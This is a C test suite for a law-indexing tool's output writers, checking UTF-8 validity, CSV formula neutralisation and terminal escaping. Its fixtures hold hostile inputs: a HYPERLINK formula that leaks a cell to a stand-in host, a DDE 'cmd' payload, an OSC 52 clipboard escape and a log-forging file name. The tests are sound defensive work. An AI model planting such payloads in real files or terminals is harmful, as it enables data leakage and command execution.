/*
 * test_output.c - output that can be trusted (issue 17, items 8-10), on a
 * tree of copies of two real laws (tests/data/markdown/: the Cybersecurity
 * Law under hostile titles and names, the Animal Husbandry Law under a file
 * name of ill-formed UTF-8, so that 'similar' finds it by distinct words):
 *
 *  - JSON is valid UTF-8 and parses: every JSON output of the CLI and of
 *    the API here goes through jq (syntax, raw control characters) and a
 *    strict UTF-8 check with utf8proc (jq 1.6 silently replaces ill-formed
 *    UTF-8, so it cannot see this alone).  A title from MANIFEST.tsv and a
 *    file name hold ill-formed bytes; a query and a law id in a URL too.
 *  - CSV cells never start a formula (= + - @ tab CR) unless --csv-raw.
 *  - Text on a terminal and lines on stderr hold no raw ESC, and a file
 *    name with newlines cannot forge a line.
 *
 * The last tests are unit tests of app/'s writers, included below:
 * maximal subparts, CSV cells, out_printf's widths, the JSON writer.
 */
#include <criterion/criterion.h>
#include <utf8proc.h>

#include "cli_util.h"

#define LAW LF_TEST_DATA "/markdown/cybersecurity_law_2016.md"
#define OTHER_LAW LF_TEST_DATA "/markdown/animal_husbandry_law_2022.md" /* under BAD_NAME */

/* The hostile names (cn/ is the jurisdiction's directory). */
#define BAD_NAME "bad\xff\xfe\xe5\x90\x8d"            /* "bad", two ill-formed bytes, 名 */
#define BAD_ID "bad%FF%FE\xe5\x90\x8d"              /* the law id made of it: valid UTF-8 */
#define BAD_ID_FMT "bad%%FF%%FE\xe5\x90\x8d"         /* the same, in a printf format */
#define TWIN_NAME "bad\xfe\xff\xe5\x90\x8d"           /* the same but for those bytes */
#define ESC_NAME "esc\x1b[31m\nforged line"          /* ESC and a newline */
#define FORGED "x\nlexfrag: indexed 999 of 999 files (0 unchanged, 0 failed)\n\x1b[2Jy"
#define OSC_TITLE "\x1b]52;c;SGVsbG8=\x07 Clipboard Act"
#define MANIFEST_TITLE "Manifest \xff\xfe title \xe2\x82"
#define U_FFFD "\xEF\xBF\xBD" /* spelt as cli/out.c spells it */

static char *dir, *db, *tree;
static cli_result indexed; /* what 'index' said */
static pid_t server;       /* stopped by remove_tree, even after a failed assertion */

static void write_file(const char *path, const char *head, const char *body)
{
	FILE *fp = fopen(path, "wb");

	if (!fp || fputs(head, fp) < 0 || fputs(body, fp) < 0 || fclose(fp) != 0) {
		fprintf(stderr, "cannot write %s\n", path);
		abort();
	}
}

/* The tree: the law under hostile titles and names, an empty file with a
 * forged name (it fails: one stderr line), then the index of it. */
static void make_tree(void)
{
	static const char *const titles[][2] = {
		{"eq", "=HYPERLINK(\"http://x/?leak=\"&B2,\"Click me\")"},
		{"plus", "+cmd|' /C calc'!A0"},
		{"at", "@SUM(1+1)"},
		{"minus", "-2+3"},
	};
	char path[4200], head[300], *law = slurp(LAW), *body = strchr(law, '\n'), *other = slurp(OTHER_LAW);

	cr_assert(body && *law == '#', "%s: not the law expected", LAW);
	dir = scratch_dir();
	tree = malloc(4200);
	db = malloc(4200);
	snprintf(tree, 4200, "%s/tree", dir);
	snprintf(db, 4200, "%s/db", dir);
	snprintf(path, sizeof path, "%s/cn", tree);
	cr_assert(mkdir(tree, 0755) == 0 && mkdir(path, 0755) == 0);
	for (size_t i = 0; i < sizeof titles / sizeof titles[0]; i++) {
		snprintf(path, sizeof path, "%s/cn/%s.md", tree, titles[i][0]);
		snprintf(head, sizeof head, "# %s", titles[i][1]);
		write_file(path, head, body);
	}
	snprintf(path, sizeof path, "%s/cn/osc.md", tree);
	write_file(path, "---\ntitle: \"" OSC_TITLE "\"\n---\n\n", law);
	snprintf(path, sizeof path, "%s/cn/" BAD_NAME ".md", tree);
	write_file(path, "", other);
	snprintf(path, sizeof path, "%s/cn/" ESC_NAME ".md", tree);
	write_file(path, "", law);
	snprintf(path, sizeof path, "%s/cn/" FORGED ".md", tree);
	write_file(path, "", "");
	snprintf(path, sizeof path, "%s/cn/manifest.md", tree);
	write_file(path, "# ", body);
	snprintf(path, sizeof path, "%s/MANIFEST.tsv", tree);
	write_file(path, "path\tjurisdiction\tlanguage\ttitle\tyear\n",
	           "cn/manifest.md\tcn\tzh\t" MANIFEST_TITLE "\t2016\n");
	free(law);
	free(other);
	indexed = run_sh("$LF index --db '%s' '%s'", db, tree);
	cr_assert_eq(indexed.status, 1, "one file fails, the others are indexed: %s", indexed.err);
	cr_assert(strstr(indexed.err, "indexed 8 of 9 files"), "%s", indexed.err);
}

static void remove_tree(void)
{
	cli_result r;

	serve_stop(server);
	r = run_sh("rm -rf '%s'", dir);

	cli_free(&r);
	cli_free(&indexed);
	free(tree);
	free(db);
	free(dir);
}

TestSuite(output, .init = make_tree, .fini = remove_tree, .timeout = 120);

/* ------------------------------------------------------------ checks */

/* Is s[0..n) well-formed UTF-8?  utf8proc: no overlong form, surrogate or
 * code point past U+10FFFF. */
static int utf8_ok(const char *s, size_t n, size_t *at)
{
	utf8proc_int32_t cp;

	for (size_t i = 0; i < n;) {
		utf8proc_ssize_t k = utf8proc_iterate((const utf8proc_uint8_t *)s + i, (utf8proc_ssize_t)(n - i), &cp);
		if (k <= 0) {
			*at = i;
			return 0;
		}
		i += (size_t)k;
	}
	return 1;
}

/* Asserts that json (one value per line: a document, or JSON Lines) is
 * well-formed UTF-8 and that jq parses each line as one value. */
static void assert_json(const char *what, const char *json)
{
	size_t at = 0;

	cr_assert(*json, "%s: no output", what);
	cr_assert(utf8_ok(json, strlen(json), &at), "%s: ill-formed UTF-8 at byte %zu: %.80s", what, at, json + at);
	cr_assert_null(strchr(json, '\x1b'), "%s: a raw ESC in JSON", what);
	cr_assert(json_lines_ok(json), "%s: jq refuses a line of it: %.300s", what, json);
}

/* Calls fn on every cell of RFC 4180 text, quotes removed. */
static void csv_cells(const char *s, void (*fn)(const char *cell, void *ctx), void *ctx)
{
	size_t cap = strlen(s) + 1, k;
	char *cell = malloc(cap);

	while (*s) {
		k = 0;
		if (*s == '"') {
			for (s++; *s && !(*s == '"' && s[1] != '"'); s++) {
				if (*s == '"')
					s++; /* "" is one quote */
				cell[k++] = *s;
			}
			cr_assert_eq(*s, '"', "an unclosed quoted cell");
			s++;
		} else {
			for (; *s && *s != ',' && *s != '\r' && *s != '\n'; s++)
				cell[k++] = *s;
		}
		cell[k] = '\0';
		fn(cell, ctx);
		if (*s == ',')
			s++;
		else if (*s == '\r' && s[1] == '\n')
			s += 2;
		else
			cr_assert_eq(*s, '\0', "a cell ends with 0x%02x, not a comma or CRLF", (unsigned char)*s);
	}
	free(cell);
}

typedef struct cells_seen {
	const char *const *want; /* cells that must be seen */
	int seen[8];
	int formulas;             /* cells a spreadsheet would run */
	char first_formula[200];
} cells_seen;

static void on_cell(const char *cell, void *ctx)
{
	cells_seen *c = ctx;

	for (size_t i = 0; c->want[i]; i++)
		c->seen[i] |= !strcmp(cell, c->want[i]);
	if (*cell && strchr("=+-@\t\r", *cell) && !c->formulas++)
		snprintf(c->first_formula, sizeof c->first_formula, "%s", cell);
}

/* Asserts that csv is valid UTF-8, that no cell would start a formula
 * unless raw, and that every cell of want is there. */
static void assert_csv(const char *what, const char *csv, int raw, const char *const *want)
{
	cells_seen c = {.want = want};
	size_t at = 0;

	csv_cells(csv, on_cell, &c);
	for (size_t i = 0; want[i]; i++)
		cr_assert(c.seen[i], "%s: no cell '%s' in:\n%.2000s", what, want[i], csv);
	if (!raw)
		cr_assert_eq(c.formulas, 0, "%s: %d cells start a formula, first: '%s'", what, c.formulas,
		             c.first_formula);
	else
		cr_assert_gt(c.formulas, 0, "%s: --csv-raw changed the cells", what);
	cr_assert(utf8_ok(csv, strlen(csv), &at), "%s: ill-formed UTF-8 at byte %zu", what, at);
}

static int count_lines_starting(const char *s, const char *prefix)
{
	int n = 0;

	for (const char *line = s; line && *line; line = strchr(line, '\n'), line = line ? line + 1 : NULL)
		n += !strncmp(line, prefix, strlen(prefix));
	return n;
}

/* Asserts that text for people holds no raw ESC and no forged line. */
static void assert_text(const char *what, const char *text)
{
	const char *p;

	cr_assert_null(strchr(text, '\x1b'), "%s: a raw ESC reaches the terminal:\n%s", what, text);
	cr_assert_null(strchr(text, '\x07'), "%s: a raw BEL reaches the terminal", what);
	for (p = text; (p = strstr(p, "forged line")) != NULL; p++)
		cr_assert(p > text && p[-1] != '\n', "%s: a file name forged a line:\n%s", what, text);
	for (p = text; (p = strstr(p, "lexfrag: indexed 999")) != NULL; p++)
		cr_assert(p > text && p[-1] != '\n', "%s: a forged summary line:\n%s", what, text);
}

/* ----------------------------------------------------- JSON (item 8) */

Test(output, every_json_of_the_cli_is_valid_utf8_and_parses)
{
	static const char *const cmds[] = {
		"search --db '%1$s' -n 50 --format jsonl 网络",
		"export --db '%1$s' --format jsonl",
		"export --db '%1$s' --provisions --format jsonl",
		"show --db '%1$s' --format json cn/manifest",
		"show --db '%1$s' --format json 'cn/" BAD_ID_FMT "'",
		"show --db '%1$s' --format json cn/osc",
		"stats --db '%1$s' --format json",
		"similar --db '%1$s' --format jsonl --file '" OTHER_LAW "'",
		"similar --db '%1$s' --format jsonl --law cn/osc",
		"reuse --db '%1$s' --format jsonl",
		"tag --all --format jsonl '%2$s'",
	};
	char cmd[8200];

	for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
		cli_result r;
		snprintf(cmd, sizeof cmd, cmds[i], db, tree);
		r = run_sh("$LF %s", cmd);
		cr_assert(r.status == 0 || (r.status == 1 && !strncmp(cmds[i], "tag", 3)), "%s: %d %s", cmd, r.status,
		          r.err);
		assert_json(cmd, r.out);
		cli_free(&r);
	}
}

Test(output, ill_formed_bytes_become_one_fffd_per_maximal_subpart)
{
	cli_result r = run_sh("$LF export --db '%s' --format jsonl", db);

	cr_assert_eq(r.status, 0, "%s", r.err);
	/* \xff, \xfe and the truncated \xe2\x82: three subparts */
	cr_assert(strstr(r.out, "\"title\":\"Manifest " U_FFFD U_FFFD " title " U_FFFD "\""), "%s", r.out);
	/* a law id made of a file name is escaped as in a URI, not replaced:
	 * two names that differ in those bytes keep two ids */
	cr_assert(strstr(r.out, "\"id\":\"cn/" BAD_ID "\""), "%s", r.out);
	/* controls are escaped, valid UTF-8 is kept as it is */
	cr_assert(strstr(r.out, "\"title\":\"\\u001b]52;c;SGVsbG8=\\u0007 Clipboard Act\""), "%s", r.out);
	cr_assert(strstr(r.out, "\xe4\xb8\xad\xe5\x8d\x8e"), "中华 kept: %.500s", r.out);
	cli_free(&r);
}

Test(output, sqlite_export_holds_valid_utf8)
{
	cli_result r = run_sh("$LF export --db '%s' --format sqlite -o '%s/x.sqlite' && "
	                      "sqlite3 '%s/x.sqlite' \"SELECT hex(title) FROM laws WHERE id='cn/manifest'; "
	                      "SELECT count(*) FROM laws WHERE id = 'cn/" BAD_ID_FMT "'\"",
	                      db, dir, dir);

	cr_assert_eq(r.status, 0, "%s", r.err);
	/* "Manifest " U+FFFD U+FFFD " title " U+FFFD */
	cr_assert(strstr(r.out, "4D616E696665737420EFBFBDEFBFBD207469746C6520EFBFBD\n1\n"), "%s", r.out);
	cli_free(&r);
}

/* Two files whose names differ only in ill-formed bytes are two laws with
 * two ids in every export.  Before, both ids held the raw bytes, became
 * the same U+FFFD text on the way out, and the SQLite export failed on its
 * primary key ("UNIQUE constraint failed: laws.id"). */
Test(output, names_that_differ_in_ill_formed_bytes_keep_two_ids)
{
	char twin[4200], path[4200];
	char *law = slurp(OTHER_LAW);
	cli_result r;

	snprintf(twin, sizeof twin, "%s/twins", dir);
	snprintf(path, sizeof path, "%s/cn", twin);
	cr_assert(mkdir(twin, 0755) == 0 && mkdir(path, 0755) == 0);
	snprintf(path, sizeof path, "%s/cn/" BAD_NAME ".md", twin);
	write_file(path, "", law);
	snprintf(path, sizeof path, "%s/cn/" TWIN_NAME ".md", twin);
	write_file(path, "", law);
	free(law);
	r = run_sh("$LF index --db '%1$s/db' '%1$s/cn' && $LF export --db '%1$s/db' --format sqlite -o '%1$s/t.sqlite' && "
	           "sqlite3 '%1$s/t.sqlite' \"SELECT id FROM laws ORDER BY id\"", twin);
	cr_assert_eq(r.status, 0, "%s", r.err);
	cr_assert_str_eq(r.out, "cn/bad%FE%FF\xe5\x90\x8d\ncn/" BAD_ID "\n");
	cli_free(&r);
}

Test(output, every_json_of_the_api_is_valid_utf8_and_parses)
{
	static const char *const gets[] = {
		"/api/search?q=%ff%fe",
		"/api/law/%c3%28",
		"/api/search?q=%E7%BD%91%E7%BB%9C&limit=50&facets=1",
		"/api/law/cn%2Fbad%25FF%25FE%e5%90%8d",
		"/api/law/cn%2Fmanifest",
		"/api/law/cn%2Fosc",
		"/api/stats",
		"/api/search?q=x&risk=%ff",
	};
	int port;
	cli_result r;

	server = serve_start_any(db, (const char *const[]){"--threads", "2", NULL}, &port);
	cr_assert_gt(server, 0, "the server did not start");
	for (size_t i = 0; i < sizeof gets / sizeof gets[0]; i++) {
		r = run_sh("curl -sg 'http://127.0.0.1:%d%s'", port, gets[i]);
		assert_json(gets[i], r.out);
		if (i == 0)
			cr_assert(strstr(r.out, "{\"query\":\"" U_FFFD U_FFFD "\""), "%s", r.out);
		if (i == 1)
			cr_assert(strstr(r.out, "{\"error\":\"" U_FFFD "(") && strstr(r.out, "\"status\":404"), "%s", r.out);
		if (i == 3)
			cr_assert(strstr(r.out, "\"id\":\"cn/" BAD_ID "\""), "%s", r.out);
		cli_free(&r);
	}
	r = run_sh("curl -sg 'http://127.0.0.1:%d/api/export?format=jsonl'", port);
	assert_json("/api/export?format=jsonl", r.out);
	cli_free(&r);
	r = run_sh("curl -sg --data-binary '@" OTHER_LAW "' 'http://127.0.0.1:%d/api/similar'", port);
	assert_json("/api/similar", r.out);
	cr_assert(strstr(r.out, "\"path\":") && strstr(r.out, "bad" U_FFFD U_FFFD), "%s", r.out);
	cli_free(&r);
}

/* ------------------------------------------------------ CSV (item 9) */

static const char *const neutralised[] = {
	"'=HYPERLINK(\"http://x/?leak=\"&B2,\"Click me\")", "'-2+3", "'@SUM(1+1)", NULL};
static const char *const verbatim[] = {"=HYPERLINK(\"http://x/?leak=\"&B2,\"Click me\")", "-2+3", "@SUM(1+1)",
                                       NULL};

Test(output, csv_cells_never_start_a_formula)
{
	static const char *const cmds[] = {
		"export --db '%s'",
		"export --db '%s' --provisions",
		"search --db '%s' -n 50 --format csv 网络",
		"reuse --db '%s' --format csv",
	};
	char cmd[4200];

	for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
		cli_result r;
		snprintf(cmd, sizeof cmd, cmds[i], db);
		r = run_sh("$LF %s", cmd);
		cr_assert_eq(r.status, 0, "%s: %s", cmd, r.err);
		assert_csv(cmd, r.out, 0, i == 0 || i == 2 ? neutralised : (const char *const[]){NULL});
		if (i == 0 || i == 2) /* the markdown reader read '|' as a table's */
			cr_assert(strstr(r.out, ",\"'+cmd"), "%s: %s", cmd, r.out);
		cli_free(&r);
	}
}

Test(output, csv_raw_keeps_the_cells)
{
	cli_result r = run_sh("$LF export --db '%s' --csv-raw", db);

	cr_assert_eq(r.status, 0, "%s", r.err);
	assert_csv("export --csv-raw", r.out, 1, verbatim);
	cr_assert(strstr(r.out, ",+cmd"), "%s", r.out);
	cli_free(&r);
	r = run_sh("$LF search --db '%s' -n 50 --format csv --csv-raw 网络", db);
	cr_assert_eq(r.status, 0, "%s", r.err);
	assert_csv("search --csv-raw", r.out, 1, verbatim);
	cli_free(&r);
}

Test(output, api_csv_export_is_neutralised)
{
	int port;
	cli_result r;

	server = serve_start_any(db, (const char *const[]){"--threads", "2", NULL}, &port);
	cr_assert_gt(server, 0, "the server did not start");
	r = run_sh("curl -sg 'http://127.0.0.1:%d/api/export?format=csv'", port);
	assert_csv("/api/export?format=csv", r.out, 0, neutralised);
	cli_free(&r);
	/* the download link a page offers: no way to ask for raw cells */
	r = run_sh("curl -sg 'http://127.0.0.1:%d/export?format=csv&csv_raw=1'", port);
	assert_csv("/export?format=csv&csv_raw=1", r.out, 0, neutralised);
	cli_free(&r);
}

/* -------------------------------------------- terminals (item 10) */

Test(output, stderr_lines_show_file_names_escaped)
{
	cli_result r;

	assert_text("index", indexed.err);
	cr_assert_eq(count_lines_starting(indexed.err, "lexfrag: "), 2, "the failed file and the summary: %s",
	             indexed.err);
	cr_assert(strstr(indexed.err, "x\\nlexfrag: indexed 999 of 999 files (0 unchanged, 0 failed)\\n\\x1b[2Jy.md: "),
	          "%s", indexed.err);
	r = run_sh("$LF tag --all '%s'", tree);
	assert_text("tag (stderr)", r.err);
	assert_text("tag (stdout)", r.out);
	cr_assert(strstr(r.out, "\\x1b]52;c;SGVsbG8=\\x07 Clipboard Act"), "%s", r.out);
	cli_free(&r);
	r = run_sh("$LF tag --format tsv '%s'", tree);
	assert_text("tag tsv", r.out);
	cr_assert_eq(count_lines(r.out), 8, "one line per law: %s", r.out);
	cli_free(&r);
}

Test(output, text_output_shows_controls_as_escapes)
{
	static const char *const cmds[] = {
		"search --db '%1$s' -n 50 网络",
		"show --db '%1$s' cn/osc",
		"show --db '%1$s' 'cn/esc%%1B[31m%%0Aforged_line'",
		"show --db '%1$s' 'cn/" BAD_ID_FMT "'",
		"stats --db '%1$s'",
		"similar --db '%1$s' --file '%2$s/cn/osc.md'",
		"similar --db '%1$s' --file '" OTHER_LAW "'",
		"search --db '%1$s' 畜牧",
		"reuse --db '%1$s' --min-score 1000",
		"search --db '%1$s' '\x1b]52;c;SGVsbG8=\x07('",
	};
	char cmd[8200];
	cli_result r;

	for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
		snprintf(cmd, sizeof cmd, cmds[i], db, tree);
		r = run_sh("$LF %s", cmd);
		cr_assert_eq(r.status, i + 1 == sizeof cmds / sizeof cmds[0] ? 2 : 0, "%s: %s", cmd, r.err);
		assert_text(cmd, r.out);
		assert_text(cmd, r.err);
		cli_free(&r);
	}
	r = run_sh("$LF search --db '%s' -n 50 网络", db);
	cr_assert(strstr(r.out, "\n1. ") && strstr(r.out, "\\x1b]52;c;SGVsbG8=\\x07 Clipboard Act\n"), "%s", r.out);
	cr_assert(strstr(r.out, "/cn/esc\\x1b[31m\\nforged line.md\n"), "%s", r.out);
	cli_free(&r);
	r = run_sh("$LF similar --db '%s' --file '" OTHER_LAW "'", db);
	cr_assert(strstr(r.out, "   cn/" BAD_ID " | cn | zh |"), "%s", r.out);
	cr_assert(strstr(r.out, "/cn/bad\\xff\\xfe\xe5\x90\x8d.md\n"), "%s", r.out);
	cli_free(&r);
}

/* ------------------------------------- app/: the writers, as units */

/* The writers are the tool's (app/ is not a library): compiled in here. */
#include "app/csv.c"
#include "app/json.c"
#include "app/out.c"
#include "app/records.c"

/* What f wrote to a memory stream, for s; caller frees. */
static char *capture(void (*f)(FILE *, const char *), const char *s)
{
	char *buf = NULL;
	size_t n = 0;
	FILE *fp = open_memstream(&buf, &n);

	f(fp, s);
	fclose(fp);
	return buf;
}

static void json_plain(FILE *fp, const char *s)
{
	json_w w;

	json_init(&w, fp);
	json_string(&w, s);
}

static void json_marks(FILE *fp, const char *s)
{
	json_w w;

	json_init(&w, fp);
	json_text(&w, s);
}

static void csv_cell(FILE *fp, const char *s)
{
	csv_w c;

	csv_init(&c, fp, 0);
	csv_text(&c, s);
	csv_free(&c);
}

static void csv_raw(FILE *fp, const char *s)
{
	csv_w c;

	csv_init(&c, fp, 1);
	csv_text(&c, s);
	csv_free(&c);
}
static void text_line(FILE *fp, const char *s) { out_printf(fp, "[%s]", s); }
static void text_body(FILE *fp, const char *s) { out_text(fp, s); }
static void snippet(FILE *fp, const char *s) { out_snippet(fp, s, 0); }

typedef struct out_case {
	void (*f)(FILE *, const char *);
	const char *in, *want;
} out_case;

Test(out_unit, escapers)
{
	static const out_case cases[] = {
		/* JSON: U+FFFD per maximal subpart (Unicode §3.9, Table 3-8's examples) */
		{json_plain, "a\xff\xfe" "b", "\"a" U_FFFD U_FFFD "b\""},
		{json_plain, "\xe2\x82", "\"" U_FFFD "\""},                       /* truncated: one */
		{json_plain, "\xe2\x82(", "\"" U_FFFD "(\""},
		{json_plain, "\xc3(", "\"" U_FFFD "(\""},
		{json_plain, "\xc0\xaf", "\"" U_FFFD U_FFFD "\""},                /* overlong: C0 never starts */
		{json_plain, "\xe0\x80\xaf", "\"" U_FFFD U_FFFD U_FFFD "\""},     /* overlong: E0 80 is not a start */
		{json_plain, "\xed\xa0\x80", "\"" U_FFFD U_FFFD U_FFFD "\""},     /* a surrogate */
		{json_plain, "\xf4\x90\x80\x80", "\"" U_FFFD U_FFFD U_FFFD U_FFFD "\""}, /* past U+10FFFF */
		{json_plain, "\xf0\x9f\x98", "\"" U_FFFD "\""},
		{json_plain, "\xf0\x9f\x98\x80 \xe2\x82\xac \xc3\xa9", "\"\xf0\x9f\x98\x80 \xe2\x82\xac \xc3\xa9\""},
		{json_plain, "\x1b[1m\x7f\xc2\x9b\"\\\n\t", "\"\\u001b[1m\\u007f\\u009b\\\"\\\\\\n\\t\""},
		{json_plain, "\x02x\x03", "\"x\""},
		{json_marks, "\x02x\x03", "\"<mark>x</mark>\""},
		{json_plain, "\xe2\x80\xa8", "\"\xe2\x80\xa8\""},                 /* U+2028: valid JSON as is */
		/* CSV: neutralised text cells, RFC 4180 quoting */
		{csv_cell, "=1+1", "\"'=1+1\""},
		{csv_cell, "+1", "\"'+1\""},
		{csv_cell, "-2+3", "\"'-2+3\""},
		{csv_cell, "@SUM(A1)", "\"'@SUM(A1)\""},
		{csv_cell, "\t=1", "\"'\t=1\""},
		{csv_cell, "\r=1", "\"'\r=1\""},
		{csv_cell, "\x02=x\x03", "\"'=x\""},                             /* after the marks */
		{csv_cell, "=HYPERLINK(\"a\",\"b\")", "\"'=HYPERLINK(\"\"a\"\",\"\"b\"\")\""},
		{csv_cell, "a=1", "a=1"},
		{csv_cell, "a,b", "\"a,b\""},
		{csv_cell, "x\xff", "x" U_FFFD},
		{csv_cell, "", ""},
		{csv_raw, "=1+1", "=1+1"},
		{csv_raw, "-2,3", "\"-2,3\""},
		/* text: controls and ill-formed bytes escaped, the format kept */
		{text_line, "a\x1b]52;c;SGVsbG8=\x07z", "[a\\x1b]52;c;SGVsbG8=\\x07z]"},
		{text_line, "x\ny\tz\r", "[x\\ny\\tz\\r]"},
		{text_line, "\xc2\x9b" "31m\x7f", "[\\u009b31m\\x7f]"},
		{text_line, "bad\xff\xfe\xe5\x90\x8d", "[bad\\xff\\xfe\xe5\x90\x8d]"},
		{text_line, "\xe2\x82", "[\\xe2\\x82]"},
		{text_body, "line 1\nline 2\tx\x1b[2J\r", "line 1\nline 2\tx\\x1b[2J\\r"},
		{snippet, "a \x02match\x03 \x1b", "a match \\x1b"},
	};

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *got = capture(cases[i].f, cases[i].in);
		cr_expect_str_eq(got, cases[i].want, "case %zu", i);
		free(got);
	}
}

Test(out_unit, printf_widths_count_characters_and_never_split_one)
{
	char *buf = NULL;
	size_t n = 0;
	FILE *fp = open_memstream(&buf, &n);

	out_printf(fp, "%-6s|%4s|%.3s|%.5s|%*s|", "\xc3\xa9t\xc3\xa9", "\x1b", "a\x1b" "b", "ab\xe4\xb8\xad\xe6\x96\x87xyz", 3,
	           "z");
	out_printf(fp, "%zu %u %d %ld %lld %llu %.2f %5.1f %x %c %% %s|", (size_t)42, 7u, -3, -4L, -5LL, 6ULL, 1.005,
	           2.25, 255u, 'q', (const char *)NULL);
	out_printf(fp, "%*s|%-*d|%*d|%.*s\n", -3, "a", 4, 7, 3, 8, 2, "xyz");
	fclose(fp);
	cr_assert_str_eq(buf, "\xc3\xa9t\xc3\xa9   |\\x1b|a|ab\xe4\xb8\xad\xe6\x96\x87x|  z|"
	                      "42 7 -3 -4 -5 6 1.00   2.2 ff q % |a  |7   |  8|xy\n");
	free(buf);
}

/* The JSON writer puts the commas, colons and newlines: nested objects and
 * arrays, keys escaped like strings, a number that is not finite as null,
 * one top-level value per line. */
Test(out_unit, json_writer_structure)
{
	char *buf = NULL;
	size_t n = 0;
	FILE *fp = open_memstream(&buf, &n);
	json_w w;

	json_init(&w, fp);
	json_begin_object(&w);
	json_kstring(&w, "a\"b", "x");
	json_key(&w, "list");
	json_begin_array(&w);
	json_uint(&w, 1);
	json_begin_object(&w);
	json_end_object(&w);
	json_begin_array(&w);
	json_end_array(&w);
	json_number(&w, 0.5, 3);
	json_number(&w, 1.0 / 0.0, 2);
	json_null(&w);
	json_bool(&w, 0);
	json_end_array(&w);
	json_kyear(&w, "year", "");
	json_kyear(&w, "y2", "2016");
	json_ktext(&w, "t", "\x02m\x03");
	json_end_object(&w);
	json_begin_array(&w);
	json_end_array(&w);
	fclose(fp);
	cr_assert_str_eq(buf, "{\"a\\\"b\":\"x\",\"list\":[1,{},[],0.500,null,null,false],\"year\":null,"
	                      "\"y2\":2016,\"t\":\"<mark>m</mark>\"}\n[]\n");
	cr_assert(json_lines_ok(buf), "%s", buf);
	free(buf);
}

/* A CSV cell made of parts is written whole however long (out_csv_risks
 * once cut it at 2 KiB), quoted and neutralised as one cell. */
Test(out_unit, csv_list_cells_are_whole)
{
	char *buf = NULL, cat[80];
	size_t n = 0;
	FILE *fp = open_memstream(&buf, &n);
	lf_risk r[60];
	const char *layers[] = {"=a", "b"};
	static char names[60][80];
	csv_w c;

	for (int i = 0; i < 60; i++) {
		snprintf(names[i], sizeof names[i], "category-%02d-with-a-name-long-enough-to-matter", i);
		memset(&r[i], 0, sizeof r[i]);
		r[i].category = names[i];
		r[i].score = 0.5;
		r[i].tagged = 1;
	}
	csv_init(&c, fp, 0);
	out_risks_csv(&c, r, 60, layers, 2);
	csv_end_row(&c);
	csv_free(&c);
	fclose(fp);
	snprintf(cat, sizeof cat, "category-59-with-a-name-long-enough-to-matter:0.500,\"'=a;b\"\r\n");
	cr_assert_gt(strlen(buf), 60 * 50, "%zu bytes", strlen(buf));
	cr_assert(strstr(buf, cat), "the last category or the layers are missing: %s", buf + strlen(buf) - 200);
	free(buf);
}
